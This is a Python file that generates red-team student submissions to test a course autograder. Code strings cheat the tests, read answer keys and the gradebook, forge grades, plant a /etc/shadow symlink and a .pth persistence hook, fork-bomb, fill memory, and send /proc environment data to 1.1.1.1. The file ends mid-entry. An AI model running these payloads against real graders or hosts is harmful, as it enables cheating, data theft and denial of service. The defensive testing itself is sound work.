"""The generated class: good, partial, broken and cheating notebooks, each with the score it earns.

    python -m grading class --out DIR        # release, generate, autograde, and compare with the expected scores
Most students hand in 04_elementwise (24 points: unbroadcast and eight backward rules), the others 01, 02, 06, 07, 08, 10, 11, 12, 13 or 14.
Every cheat is written so that it *would* earn points against a grader without defences; `expected` is what each
submission earns when graded as if the cheat were absent. The red-team tests (tests/test_redteam.py) grade this class.
"""

import json
from pathlib import Path

import nbformat

from ..common.answers import solved
from ..common.notebooks import REPO, nbgrader_meta, read_notebook, write_notebook
from .corners import corner_cases

ELEMENTWISE, ACTIVATIONS, HIGHER_ORDER = "04_elementwise", "07_activations", "14_higher_order"
FUNCTION, AUTOGRAD, OPTIMIZERS = "02_function", "06_autograd", "10_optimizers"
TENSOR, TRAINING, EMBEDDING = "01_tensor", "11_training", "13_embedding"
LOSSES = "08_losses"
NEEDS_SANDBOX = {"ivan", "judy", "kate", "fay", "gus", "hal", "iris"}  # stopped by the sandbox (bubblewrap) only
REDTEAM_PORT = 47913  # iris tries to reach a server the red-team test listens with on this port
DAEMON_MARK = "tinytorch-redteam-daemon"


def points_of(notebook, rules=None):
    "Points of the tests of `rules` (test names without '_hidden'), or of every test."
    total = 0.0
    for cell in read_notebook(REPO / "notebooks" / f"{notebook}.ipynb").cells:
        meta = nbgrader_meta(cell)
        if (
            meta.get("grade")
            and cell.cell_type == "code"
            and (rules is None or meta["grade_id"].removesuffix("_hidden") in rules)
        ):
            total += float(meta["points"])
    return total


def points_of_tests(notebook, names):
    "Points of the tests named exactly (a hidden one not included with its visible one)."
    cells = read_notebook(REPO / "notebooks" / f"{notebook}.ipynb").cells
    return sum(float(nbgrader_meta(c)["points"]) for c in cells if nbgrader_meta(c).get("grade_id") in names)


def submission(kit, notebook, answer=None):
    """The release notebook with exercises filled: answer(grade_id, solution, stub) gives each cell's code
    (default: the instructor's solution)."""
    release = read_notebook(Path(kit) / notebook / f"{notebook}.ipynb")
    stubs = {nbgrader_meta(c)["grade_id"]: c.source for c in release.cells if nbgrader_meta(c).get("solution")}
    edit = (lambda grade_id, solution: answer(grade_id, solution, stubs[grade_id])) if answer else None
    return solved(release, read_notebook(REPO / "notebooks" / f"{notebook}.ipynb"), edit)


def changing(grade_id, edit):
    "An answer() that solves everything, exercise `grade_id` as edit(solution, stub) makes it."

    def answer(gid, solution, stub):
        return edit(solution, stub) if gid == grade_id else solution

    return answer


def replace_in(grade_id, old, new):
    "An answer() that solves everything, with `old` replaced by `new` in one exercise."

    def edit(solution, stub):
        assert old in solution, (grade_id, old)
        return solution.replace(old, new, 1)

    return changing(grade_id, edit)


def inside(grade_id, code):
    "An answer() that solves everything and runs `code` at the start of the exercise's apply()."

    def edit(solution, stub):
        head, body = solution.split("    def apply(self, grad_output):\n", 1)
        lines = "".join(f"        {line}\n" for line in code.splitlines())
        return head + "    def apply(self, grad_output):\n" + lines + body

    return changing(grade_id, edit)


def only(solved_ids, extra=None, extra_in="solution-AddBackward"):
    "An answer() that solves only `solved_ids` (stubs elsewhere), optionally with module-level `extra` code."

    def answer(gid, solution, stub):
        code = solution if gid in solved_ids else stub
        return code + "\n\n" + extra if extra and gid == extra_in else code

    return answer


def with_cell(nb, code, after="BROADCAST_PAIRS = "):
    "A scratch cell the student added after the cell containing `after` (not exported: not part of their module)."
    cell = nbformat.v4.new_code_cell(code)
    cell.id = "scratch"
    at = next(i for i, c in enumerate(nb.cells) if after in c.source)
    nb.cells.insert(at + 1, cell)
    return nb


# -- The cheats ------------------------------------------------------------------------------------------------------


def reference_paths(grades):
    "Where a student would look for the answer key: the repository, the grader's reference package, site-packages."
    import site

    paths = [
        REPO / "tinytorch" / "core" / "elementwise.py",
        Path(grades) / ".grading" / "reference" / "tinytorch" / "core" / "elementwise.py",
    ]
    paths += [Path(p) / "tinytorch" / "core" / "elementwise.py" for p in site.getsitepackages()]
    return [str(p) for p in paths]


IMPORT_REFERENCE = """
import importlib.util as _util
for _path in {paths!r}:
    try:
        _spec = _util.spec_from_file_location("_answer_key", _path)
        _key = _util.module_from_spec(_spec)
        _spec.loader.exec_module(_key)
    except Exception:
        continue
    for _name in ["unbroadcast", "AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward",
                  "PowBackward", "ExpBackward", "LogBackward"]:
        globals()[_name] = getattr(_key, _name)
    break
"""

READ_INSTRUCTOR_FILES = """
import json as _json, os as _os, sqlite3 as _sqlite3
_candidates = {paths!r} + ["../../../source/04_elementwise/04_elementwise.ipynb", "../course/source/04_elementwise/04_elementwise.ipynb"]
for _path in _candidates:
    try:
        _nb = _json.load(open(_path))
    except Exception:
        continue
    for _cell in _nb["cells"]:
        _code = "".join(_cell["source"])
        if "### BEGIN SOLUTION" in _code and "#| export" in _code:
            exec("\\n".join(l for l in _code.splitlines() if "### " not in l), globals())
    break
for _db in {dbs!r} + ["../../../gradebook.db", "../course/gradebook.db"]:
    try:
        _rows = _sqlite3.connect(_db).execute("select source from source_cell").fetchall()
        open(_os.path.join(_os.environ.get("HOME", "/tmp"), "stolen.txt"), "w").write(str(_rows))
    except Exception:
        pass
"""

READ_LATER_ANSWERS = """
import os as _os, tinytorch as _tinytorch
_core = _os.path.join(_os.path.dirname(_tinytorch.__file__), "core")
for _name in sorted(_os.listdir(_core)):
    if _name.endswith(".py"):
        _lines = open(_os.path.join(_core, _name)).read().splitlines()  # the lines an answer would be on
        print("LEAKED", _name, [_l for _l in _lines if "grad_output" in _l or "stack.append" in _l][:200])
"""

WRITE_GRADES = """
import json as _json, os as _os, signal as _signal
_grades = {grades!r}
for _path, _text in [(_grades + "/grades.csv", "student,assignment,notebook,score,max_score,note\\nkate,04_elementwise,04_elementwise.ipynb,24,24,\\n"),
                     (_grades + "/gradebook.json", '{{"kate": {{"04_elementwise": {{"score": 24, "max_score": 24}}}}}}'),
                     (_grades + "/results/kate/04_elementwise.json", '{{"score": 24}}'),
                     (_grades + "/results/alice/04_elementwise.json", "deleted by kate"),
                     ("../../../gradebook.db", "corrupted"), ("../course/gradebook.db", "corrupted")]:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        open(_path, "w").write(_text)
    except Exception:
        pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except Exception:
    pass
"""

PATCH_CHECKERS = """
import numpy as _np
import tinytorch.core.gradcheck as _gradcheck
_gradcheck.compare_gradient = lambda *args, **kwargs: True
_gradcheck.check_gradient_shape = lambda label, grad, shape: grad
_np.allclose = lambda *args, **kwargs: True
_np.testing.assert_allclose = lambda *args, **kwargs: None
"""

FORGE_CHANNEL = """
import os as _os, sys as _sys
_main = _sys.modules.get("__main__")
_wire = _sys.modules.get("wire")
if _wire is not None:
    _pack = _wire.pack
    _wire.pack = lambda header, arrays: _pack({"op": "return", "values": {"value": True}, "objects": []}, [])
    try:                                   # and a forged answer straight into the result pipe
        _os.write(int(_sys.argv[2]), _pack({"op": "return", "values": {"value": True}, "objects": []}, []))
    except Exception:
        pass
"""

NUMPY_INTERNALS = """
import numpy as _np
_true = lambda *args, **kwargs: True
for _f in (_np.allclose, _np.isclose, _np.array_equal):
    try:
        _f._implementation.__code__ = _true.__code__
    except Exception:
        pass
try:
    import numpy._core._methods as _m
    _m.umr_maximum = lambda *args, **kwargs: -1.0
except Exception:
    pass
"""

SWAP_CHECKER = """
import sys as _sys, types as _types
_fake = _types.ModuleType("tinytorch.core.gradcheck")
_fake.check_backward = _fake.gradcheck = _fake.compare_gradient = lambda *args, **kwargs: True
_fake.GradcheckError = AssertionError
_sys.modules["tinytorch.core.gradcheck"] = _fake
"""

FRAME_WALKER = """
import sys as _sys

class Sneaky:
    "A gradient whose .data looks up the checker's numerical gradient in the caller's frames."
    @property
    def data(self):
        frame = _sys._getframe()
        while frame is not None:
            if "numeric" in frame.f_locals:
                return frame.f_locals["numeric"]
            frame = frame.f_back
        return 0.0

def _apply(self, grad_output):
    return tuple(Sneaky() for _ in self.saved_tensors)

for _name in ["AddBackward", "SubBackward", "MulBackward", "DivBackward", "NegBackward", "PowBackward",
              "ExpBackward", "LogBackward"]:
    globals()[_name].apply = _apply

def _tracer(frame, event, arg):
    if "numeric" in frame.f_locals and "analytic" in frame.f_locals:
        frame.f_locals["analytic"] = frame.f_locals["numeric"]
    return _tracer
_sys.settrace(_tracer)
"""

TAMPER_RUNNER = """
import glob as _glob, os as _os
for _path in ["/grader/worker.py", "/grader/wire.py"] + _glob.glob("/student/tinytorch/core/*.py"):
    for _action in (lambda p: _os.chmod(p, 0o777), lambda p: open(p, "w").write("print('fake')"), _os.remove):
        try:
            _action(_path)
        except Exception:
            pass
for _folder in ["/grader", "/student", "/tmp", _os.path.expanduser("~")]:
    try:
        _os.chmod(_folder, 0o777)
    except Exception:
        pass
_os._exit(1)          # crash, so that the next worker would run the fake
"""

PLANT_SYMLINKS = """
import os as _os, site as _site, sys as _sys
for _target, _link in [("/etc/shadow", "~/.matplotlib"), ("/", "~/root"), ("/root", "/tmp/tinytorch-grading-x")]:
    try:
        _os.symlink(_target, _os.path.expanduser(_link))
    except Exception:
        pass
for _folder in _site.getsitepackages() + [_os.path.dirname(_os.__file__)]:
    try:
        open(_os.path.join(_folder, "zz-redteam.pth"), "w").write("import os; os.system('touch /tmp/pwned')\\n")
    except Exception:
        pass
"""

DAEMON = """
import os as _os, subprocess as _subprocess, sys as _sys
_code = "import os, time\\n# {mark}\\nwhile True:\\n    time.sleep(0.001)\\n    if os.fork():\\n        os._exit(0)\\n"
for _ in range(3):
    try:
        _subprocess.Popen([_sys.executable, "-c", _code], start_new_session=True, stdin=_subprocess.DEVNULL,
                          stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
    except Exception:
        pass
"""

SNOOP = """
import glob as _glob, os as _os, socket as _socket
_found = []
for _path in _glob.glob("/proc/[0-9]*/cmdline") + _glob.glob("/proc/[0-9]*/environ"):
    try:
        _found.append(open(_path, "rb").read())
    except Exception:
        pass
for _address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        _s = _socket.create_connection(_address, timeout=2)
        _s.sendall(repr([_os.environ.get("JUPYTER_PATH"), _found[:20]]).encode()[:60000])
        _s.close()
    except Exception:
        pass
"""

FORK_BOMB = """
import os as _os, time as _time
for _ in range(400):  # bounded, so that a host without cgroups survives it too
    try:
        if _os.fork() == 0:
            _time.sleep(3600)
            _os._exit(0)
    except OSError:
        break
"""

GRADCHECK = "03_gradcheck"
HUGE_CALLBACK = (  # at the start of numerical_grad: ask the test's fn to broadcast a (4000, 1) and a (1, 4000) array
    "solution-numerical_grad",
    "    wrap = Tensor if any(",
    "    try:\n"
    "        fn(np.ones((4000, 1)), np.ones((1, 4000)))  # 64 KB asked, 128 MB for the grader to compute\n"
    "        return [None] * len(inputs)  # the grader computed it: then this attack costs the student the tests\n"
    "    except Exception:\n"
    "        pass  # refused (or fn takes one input): the honest solution follows\n"
    "    wrap = Tensor if any(",
)

FILL_MEMORY = """
import os as _os
for _folder in ("/tmp", _os.path.expanduser("~")):
    try:
        with open(_os.path.join(_folder, "fill"), "wb") as _f:
            for _ in range(5 * 1024):
                _f.write(b"x" * 2**20)
    except Exception:
        pass
for _ in range(6):
    try:
        if _os.fork() == 0:
            _block = bytearray(600 * 2**20)
            for _i in range(0, len(_block), 4096):
                _block[_i] = 1
            _os._exit(0)
    except OSError:
        break
"""

# A rule has the hidden test's inputs while it runs: three ways to write them onto the feedback page, each spelling the
# first saved tensor's values as spell_leak does. Each rule leaks on every call, so it fails its tests, visible and
# hidden; the page may show the visible tests' inputs (the student's to see anyway), never a hidden test's.
LEAK_IN_LETTERS = """import numpy as np
values = np.asarray(self.saved_tensors[0].data, dtype=float).ravel()
raise ValueError("LEAK " + " ".join(f"{v:.4f}".translate(str.maketrans("0123456789.-", "oizehsgtbqpm")) for v in values))
"""
LEAK_AS_A_STRING = """import numpy as np
return "LEAK " + " ".join(f"{v:.4f}" for v in np.asarray(self.saved_tensors[0].data, dtype=float).ravel())
"""
LEAK_IN_A_CLASS_NAME = """import numpy as np
class Leak:
    pass
Leak.__module__ = "tinytorch.core.autograd"
Leak.__qualname__ = "LEAK " + " ".join(f"{v:.4f}" for v in np.asarray(self.saved_tensors[0].data, dtype=float).ravel())
return Leak(), Leak()
"""
# A string cut short by the check (its repr to 80 characters) where an escape's backslash ends the message: the quote
# then had an end the page's blanking did not know.
LEAK_CUT_AT_AN_ESCAPE = """import numpy as np
text = "LEAK " + " ".join(f"{v:.4f}" for v in np.asarray(self.saved_tensors[0].data, dtype=float).ravel())
return (text + "#" * 78)[:78] + "\\n"
"""
LEAKS = {  # student: (the rule that leaks, its code, whether it spells the digits in letters)
    "leo": ("neg_backward", "solution-NegBackward", LEAK_IN_LETTERS, True),
    "mia": ("mul_backward", "solution-MulBackward", LEAK_AS_A_STRING, False),
    "noa": ("add_backward", "solution-AddBackward", LEAK_IN_A_CLASS_NAME, False),
    "opal": ("sub_backward", "solution-SubBackward", LEAK_CUT_AT_AN_ESCAPE, False),
}

# Round 3: the check named what a rule returned by its repr, 80 characters of the student's choosing, which the page's
# blanking of quotes left alone when they were digits: a number, a dict of numbers (quin). It names the type only.
LEAK_AS_A_NUMBER = """import numpy as np
return float(np.ravel(self.saved_tensors[0].data)[0])
"""
LEAK_AS_A_DICT = """import numpy as np
return {i: float(v) for i, v in enumerate(np.ravel(self.saved_tensors[0].data)[:12])}
"""

# The same through a module-level flag (wire.flags travel with every call): the hidden test's ReLU rule sets
# one to a string of its inputs, a visible test's sigmoid rule prints it, then puts the number back. (Stopped twice
# now: a string never travels, and neither does a constant in capitals, round 4.)
LEAK_INTO_A_FLAG = """global GELU_SCALE
import numpy as np
GELU_SCALE = "LEAK " + " ".join(f"{v:.4f}" for v in np.ravel(self.saved_tensors[0].data))
"""
PRINT_THE_FLAG = """global GELU_SCALE
print("FLAG", GELU_SCALE)
GELU_SCALE = 0.7978845608028654
"""


# Round 4: a constant of the module changed by the student's code (BCE_EPS, read by the given _clipped). It once
# travelled back into the grader's copy of the module with the flags, where the reference BCE rule, run to judge
# whether the student's is a formula, then clipped every p to 0.5: too far from the truth to judge, so the test's own
# comparison took the rule's finite differences (13 of 14). Constants no longer travel (wire.flags).
NUMERICAL_BCE_WITH_EPS_CHANGED = """global BCE_EPS
BCE_EPS = 0.5
import numpy as np
probabilities, target = self.saved_tensors
P = np.clip(np.asarray(probabilities.data, dtype=float), 1e-12, 1 - 1e-12)
T = np.asarray(target.data, dtype=float)
g = np.asarray(getattr(grad_output, "data", grad_output), dtype=float)
n = P.size


def forward(P, Q, T):
    return -(T * np.log(P) + (1 - T) * np.log(Q)) / n


hp, hq, ht = 1e-6 * P, 1e-6 * (1 - P), 1e-6
grad_p = (forward(P + hp, 1 - P, T) - forward(P - hp, 1 - P, T)) / (2 * hp)
grad_p -= (forward(P, 1 - P + hq, T) - forward(P, 1 - P - hq, T)) / (2 * hq)
grad_t = (forward(P, 1 - P, T + ht) - forward(P, 1 - P, T - ht)) / (2 * ht)
return Tensor(g * grad_p), Tensor(g * grad_t)
"""


# Round 4 too: a class the rule sends back named after a path through the course module's imports to one of NumPy's
# types, which the grader once looked up there and made with its __new__: that one crashed the grader's process, so
# the hidden test whose inputs the rule gets wrong became "a fault of the grader" instead of lost points (wren). Only
# a class defined in the course's module is looked up now (remote.resolve_trusted_class).
CRASH_THE_GRADER_ON_THE_HIDDEN_SHAPE = """class Boom:
    pass
Boom.__module__ = "tinytorch.core.function"
Boom.__qualname__ = "np._core._multiarray_umath._ArrayFunctionDispatcher"
if self.saved_tensors[0].shape == (3, 4):
    return (Boom(),)
"""


# Round 5: the worker's own wire.pack replaced (as axel does) to add to the reply an array whose shape holds the rule's
# inputs: (2**32, 2**32, ...) wrapped NumPy's int64 count of its elements to 0, past the size check, and reshape's
# ValueError, which quoted the whole shape, reached the page as the hidden test's message (yara). A malformed message
# is now a WireError that quotes none of it, and the size is counted in Python's integers.
LEAK_IN_A_FORGED_SHAPE = """import sys as _s, json as _j, struct as _st
_w = _s.modules.get("wire")
_x = getattr(self.saved_tensors[0], "data", None)
if _w is not None and getattr(_x, "size", 0):
    _values = [int(round((float(v) + 10) * 1e6)) for v in _x.reshape(-1)]
    _pack = _w.pack
    def _forged(header, arrays, _pack=_pack, _values=_values):
        _w.pack = _pack
        body = _pack(header, arrays)[8:]
        (size,) = _st.unpack("<Q", body[:8])
        head = _j.loads(body[8 : 8 + size])
        head["arrays"].append(["<f8", [2**32, 2**32] + _values])
        text = _j.dumps(head).encode()
        body = _st.pack("<Q", len(text)) + text + body[8 + size :]
        return _st.pack("<Q", len(body)) + body
    _w.pack = _forged
"""


# A change carried by a callback: the exercise zeroes the test's vectors and parameters, then calls the test's loss_fn
# (a function of the grader's), whose message carries the change before the reply does. Every H·v is then 0, and so
# is what the test computes to compare it with. Replaces the solution's body from its first line to its last.
ZERO_THROUGH_A_CALLBACK = """    for v in vectors:
        v[...] = 0
    for p in params:
        p.data[...] = 0
    loss_fn()
    products = [None] * len(params)
"""


def through_a_callback(gid, solution, stub):
    if gid != "solution-hessian_vector_product":
        return solution
    start = solution.index("    grads = grad(loss_fn()")
    end = solution.index("    products = grad(dot, params)\n") + len("    products = grad(dot, params)\n")
    return solution[:start] + ZERO_THROUGH_A_CALLBACK + solution[end:]


# An empty array is close to anything for np.allclose (it broadcasts to nothing): a rule that returns one as its
# gradient (02), an optimizer that gives each parameter one as its data (10).
EMPTY_GRADIENT = (
    "return (grad_output * 2 * x,)",
    "import numpy as np\n        return (Tensor(np.zeros((0, 1, 1, 1, 1))),)",
)
EMPTY_PARAMETERS = """        import numpy as np
        if p.grad is not None:
            p.data = np.zeros((0, 1, 1, 1, 1))
"""


EMPTY_IN_A_TENSOR = (  # the same inside a Tensor: its data a Tensor holding the empty array
    "return (grad_output * 2 * x,)",
    "import numpy as np\n        t = Tensor(0.0)\n        t.data = Tensor(np.zeros((0, 1, 1, 1, 1)))\n        return (t,)",
)
EMPTY_LEAF_GRADIENTS = """        for tensor in topological_order(root):
            if tensor._grad_fn is None and tensor.requires_grad:
                leaves.append((tensor, Tensor(np.zeros((0, 1, 1, 1, 1)))))
"""


def run_backward_loop(loop):
    "An answer() that solves everything, run_backward with its loop (from the walk to the release) replaced by `loop`."

    def answer(gid, solution, stub):
        if gid != "solution-run_backward":
            return solution
        start = solution.index("        for tensor in topological_order(root):")
        end = solution.index("function.release()\n") + len("function.release()\n")
        return solution[:start] + loop + solution[end:]

    return answer


def empty_parameters(gid, solution, stub):
    "Both optimizers' update() replaced by EMPTY_PARAMETERS: nothing computed."
    if gid not in ("solution-SGD", "solution-Adam"):
        return solution
    head, _ = stub.split("    def update(self, i, p, grad):\n", 1)
    return head + "    def update(self, i, p, grad):\n" + EMPTY_PARAMETERS


# Finite differences handed back as something other than a float64 array, which the verdict once did not judge: a
# complex array (sigmoid) and a list of numbers (tanh). Both are read as the tests read them, and refused.
NUMERICAL_AS_COMPLEX = """import numpy as np
x, h = self.saved_tensors[0].data, 1e-5
sig = lambda v: 1 / (1 + np.exp(-v))
return (((sig(x + h) - sig(x - h)) / (2 * h) * grad_output.data).astype(np.complex128),)
"""
NUMERICAL_AS_A_LIST = """import numpy as np
x, h = self.saved_tensors[0].data, 1e-5
return (((np.tanh(x + h) - np.tanh(x - h)) / (2 * h) * grad_output.data).tolist(),)
"""
# Round 2: a list of np.float32 numbers, which NumPy reads as float32 (the verdict left float32 to the dtype check,
# which looked for the list's own dtype and found none), and which the test compared in float64 (pat, 04)
NUMERICAL_AS_FLOAT32_NUMBERS = """import numpy as np
x = self.saved_tensors[0].data.astype(np.float64)
h = 1e-6 * np.maximum(np.abs(x), 1e-3)
grad = grad_output.data * (np.log(x + h) - np.log(x - h)) / (2 * h)
return (np.vectorize(np.float32, otypes=[object])(grad).tolist(),)
"""
# Round 3: central differences with each element's own size as its step, exact for an elementwise rule linear in each
# input, whose elements the probe's mixed magnitudes never add together (rhea, 04): the probe's infinite values
NUMERICAL_MUL_BY_RELATIVE_STEPS = """import numpy as np
a, b = self.saved_tensors
A, B, g = a.data, b.data, grad_output.data
step = lambda X: np.where(X == 0, np.ones_like(X), np.abs(X))
ha, hb = step(A), step(B)
da = (((A + ha) * B) - ((A - ha) * B)) / (2 * ha)
db = ((A * (B + hb)) - (A * (B - hb))) / (2 * hb)
return unbroadcast(Tensor(g * da), a.shape), unbroadcast(Tensor(g * db), b.shape)
"""
NUMERICAL_NEG_BY_RELATIVE_STEPS = """import numpy as np
X, g = self.saved_tensors[0].data, grad_output.data
h = np.where(X == 0, np.ones_like(X), np.abs(X))
return (Tensor(g * ((-(X + h)) - (-(X - h))) / (2 * h)),)
"""


# run_backward sets every tensor of the graph to zeros and hands each leaf 2: for 06's run_backward_hidden, whose
# expected gradient 2 x data + 2 the test computes from the graph's data after the call, 2 is right for zeros.
ZERO_THE_DATA = """        for tensor in topological_order(root):
            tensor.data = np.zeros_like(tensor.data)
            if tensor._grad_fn is None:
                leaves.append((tensor, Tensor(np.full(tensor.shape, 2.0))))
"""


# Given code that once did an exercise's work (a student calls it, or copies its line)
ELEMENTWISE_BY_COMPARE = ("solution-elementwise", "return a._compare(b, numpy_op, symbol)")
ACCURACY_BY_MEASURE = (
    "solution-accuracy",
    "from tinytorch.core.capstone import measure\n\n"
    "    return measure(lambda x: logits, np.zeros((len(labels), 1)), np.asarray(labels))[1]",
)
TIED_BY_DIFFERENCES = (
    "solution-tied_weight_grad",
    "from tinytorch.core.gradcheck import numerical_grad\n\n"
    "    (gradient,) = numerical_grad(lambda w: np.sum(grad_logits * (w[ids] @ w.T)), [weight])\n"
    "    return gradient",
)


def body_replaced(grade_id, body):
    "An answer() that solves everything but one exercise, whose stub (YOUR CODE HERE, raise ...) is `body` instead."

    def edit(solution, stub):
        head, rest = stub.split("# YOUR CODE HERE\n", 1)
        after = rest.split("\n", 1)[1] if "\n" in rest else ""  # the lines after the stub's raise
        return head + body + ("\n" + after if after else "")

    return changing(grade_id, edit)


def chained(*answers):
    "An answer() that applies each of `answers` in turn (several exercises changed)."

    def answer(gid, solution, stub):
        for each in answers:
            solution = each(gid, solution, stub)
        return solution

    return answer


def spell_leak(value, letters):
    "How the LEAK attacks write one value: four decimals, in digits or in letters."
    text = f"{value:.4f}"
    return text.translate(str.maketrans("0123456789.-", "oizehsgtbqpm")) if letters else text


SCRATCH_CHEAT = """check_backward = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
get_ipython().showtraceback = lambda *args, **kwargs: None     # assert-free: hide every error a test raises"""


def make_class(kit, out, grades=None):
    """Write 30 students' submissions into `out`; return {student: expectation}. `grades` is the folder the class
    will be graded into (the cheats that attack the grader's files aim there)."""
    out, grades = Path(out), str(Path(grades or Path(out).parent / "grades").resolve())
    E = ELEMENTWISE
    full = points_of(E)
    losing = lambda *rules: full - points_of(E, set(rules))  # noqa: E731
    cases = {
        # good, partial and wrong work
        "alice": (E, submission(kit, E), full, ""),
        "bob": (E, submission(kit, E, only(set())), 0.0, ""),
        "carol": (
            E,
            submission(
                kit, E, replace_in("solution-MulBackward", "grad_output * b, a.shape", "grad_output * a, a.shape")
            ),
            losing("mul_backward"),
            "",
        ),
        "dan": (
            E,
            submission(
                kit,
                E,
                only({"solution-unbroadcast", "solution-AddBackward", "solution-SubBackward", "solution-MulBackward"}),
            ),
            points_of(E, {"unbroadcast", "add_backward", "sub_backward", "mul_backward"}),
            "",
        ),
        "rosa": (E, submission(kit, E), full, ""),
        "tara": (E, tampered_tests(submission(kit, E), delete=True), full, ""),
        "uma": (E, tampered_tests(submission(kit, E, only(set())), delete=False), 0.0, ""),
        # broken code
        "erin": (
            E,
            submission(kit, E, replace_in("solution-DivBackward", "(b * b), b.shape)", "(b * b), b.shape))")),
            losing("div_backward"),
            "each of your exercise cells was run on its own",
        ),
        "frank": (
            E,
            submission(kit, E, inside("solution-NegBackward", "while True:\n    pass")),
            losing("neg_backward"),
            "your NegBackward.apply used up the CPU time allowed for one call (an endless loop, or much too slow): "
            "its later calls were not made",
        ),
        "gina": (
            E,
            submission(
                kit,
                E,
                inside(
                    "solution-PowBackward",
                    "import signal\n"
                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                    "signal.signal(signal.SIGPROF, signal.SIG_IGN)\nwhile True:\n    pass",
                ),
            ),
            losing("pow_backward"),
            "did not finish in time",
        ),
        "hank": (
            E,
            submission(kit, E, inside("solution-ExpBackward", "import os\nos._exit(3)")),
            losing("exp_backward"),
            "the process ended",
        ),
        "ivy": (
            E,
            submission(kit, E, inside("solution-LogBackward", "import ctypes\nctypes.string_at(0)")),
            losing("log_backward"),
            "the process ended",
        ),
        "jack": (
            E,
            submission(kit, E, inside("solution-DivBackward", "blocks = [bytearray(2**27) for _ in range(1000)]")),
            losing("div_backward"),
            "",
        ),
        "kim": (E, submission(kit, E, inside("solution-AddBackward", "print('x' * 20_000_000)")), full, ""),
        "liam": (
            E,
            submission(kit, E, inside("solution-SubBackward", "import sys\nsys.exit(1)")),
            losing("sub_backward"),
            "",
        ),
        "maya": (
            E,
            submission(kit, E, inside("solution-MulBackward", "input('the answer? ')")),
            losing("mul_backward"),
            "",
        ),
        # cheating
        "vic": (E, with_cell(submission(kit, E, only(set())), SCRATCH_CHEAT), 0.0, ""),
        "wes": (
            E,
            submission(kit, E, wrong_add_and_mul(extra=PATCH_CHECKERS)),
            losing("add_backward", "mul_backward"),
            "",
        ),
        "xena": (
            E,
            submission(kit, E, inside_wrong_mul(PATCH_CHECKERS)),
            losing("mul_backward"),
            "",
        ),
        "yuri": (
            E,
            submission(kit, E, only_all_with("import builtins\nbuiltins.isinstance = lambda obj, cls: False")),
            full,
            "",
        ),
        # attacks on the grading machinery itself (issue 11): each on a notebook left undone, so honest work is 0
        "axel": (E, submission(kit, E, only(set(), FORGE_CHANNEL)), 0.0, ""),
        "bea": (E, submission(kit, E, only(set(), NUMPY_INTERNALS)), 0.0, ""),
        "cole": (E, submission(kit, E, only(set(), SWAP_CHECKER)), 0.0, ""),
        "dora": (E, submission(kit, E, only(set(), FRAME_WALKER)), 0.0, ""),
        "fay": (E, submission(kit, E, only(set(), TAMPER_RUNNER)), 0.0, ""),
        "gus": (E, submission(kit, E, only(set(), PLANT_SYMLINKS)), 0.0, ""),
        "hal": (E, submission(kit, E, only(set(), DAEMON.format(mark=DAEMON_MARK))), 0.0, ""),
        "iris": (E, submission(kit, E, only(set(), SNOOP.format(port=REDTEAM_PORT))), 0.0, ""),
        # on the other students: limits are the sandbox's as a whole (grading.sandbox.cgroup), so nobody else pays
        "fern": (E, submission(kit, E, only(set(), FORK_BOMB)), 0.0, ""),
        "gwen": (E, submission(kit, E, only(set(), FILL_MEMORY)), 0.0, ""),
        # on the grader's own process: a callback past its limit (64 MB) is refused, so the honest rest earns full
        "hugo": (GRADCHECK, submission(kit, GRADCHECK, replace_in(*HUGE_CALLBACK)), points_of(GRADCHECK), ""),
        "ivan": (E, submission(kit, E, only(set(), IMPORT_REFERENCE.format(paths=reference_paths(grades)))), 0.0, ""),
        "judy": (
            E,
            submission(
                kit,
                E,
                only(
                    set(),
                    READ_INSTRUCTOR_FILES.format(
                        paths=[
                            str(REPO / "notebooks" / f"{E}.ipynb"),
                            f"{grades}/.grading/master/source/{E}/{E}.ipynb",
                            f"{grades}/.grading/reference/nbs/{E}.ipynb",
                        ],
                        dbs=[f"{grades}/.grading/master/gradebook.db"],
                    ),
                ),
            ),
            0.0,
            "",
        ),
        "kate": (E, submission(kit, E, only(set(), WRITE_GRADES.format(grades=grades))), 0.0, ""),
        "lena": (E, submission(kit, E, only(set(), READ_LATER_ANSWERS)), 0.0, ""),
        # on the hidden tests' inputs: written into an error, a returned string, a class's name (LEAKS above)
        **{
            student: (E, submission(kit, E, inside(grade_id, code)), losing(rule), "")
            for student, (rule, grade_id, code, _) in LEAKS.items()
        },
        # 07: Tensor.backward replaced on import (sealed from notebook 07 on), and a good submission to compare
        "zoe": (
            ACTIVATIONS,
            submission(
                kit,
                ACTIVATIONS,
                only_all_with(
                    "from tinytorch.core.tensor import Tensor as _T\n_T.backward = lambda self, *a, **k: None",
                    where="solution-ReLUBackward",
                ),
            ),
            points_of(ACTIVATIONS),
            "",
        ),
        "ned": (ACTIVATIONS, submission(kit, ACTIVATIONS), points_of(ACTIVATIONS), ""),
        # 14: a change of the test's data carried by a callback (checked as the reply is): the honest work is none
        "rex": (HIGHER_ORDER, submission(kit, HIGHER_ORDER, through_a_callback), 0.0, "changed vectors[0] in place"),
        # empty arrays where a test compares with np.allclose: a gradient of a rule, the parameters an optimizer moves
        **{  # SquareBackward returns an empty gradient (sol), or one inside a Tensor's data (uli)
            student: (
                FUNCTION,
                submission(kit, FUNCTION, replace_in("solution-SquareBackward", *empty)),
                points_of(FUNCTION) - points_of(FUNCTION, {"square_backward"}),
                "",
            )
            for student, empty in (("sol", EMPTY_GRADIENT), ("uli", EMPTY_IN_A_TENSOR))
        },
        "tom": (OPTIMIZERS, submission(kit, OPTIMIZERS, empty_parameters), 0.0, "was given an array of shape"),
        "vera": (  # only topological_order's visible test needs no run_backward
            AUTOGRAD,
            submission(kit, AUTOGRAD, run_backward_loop(EMPTY_LEAF_GRADIENTS)),
            points_of_tests(AUTOGRAD, {"topological_order"}),
            "",
        ),
        "otto": (
            AUTOGRAD,
            submission(kit, AUTOGRAD, run_backward_loop(ZERO_THE_DATA)),
            points_of_tests(AUTOGRAD, {"topological_order"}),
            "",
        ),
        "pat": (
            E,
            submission(kit, E, inside("solution-LogBackward", NUMERICAL_AS_FLOAT32_NUMBERS)),
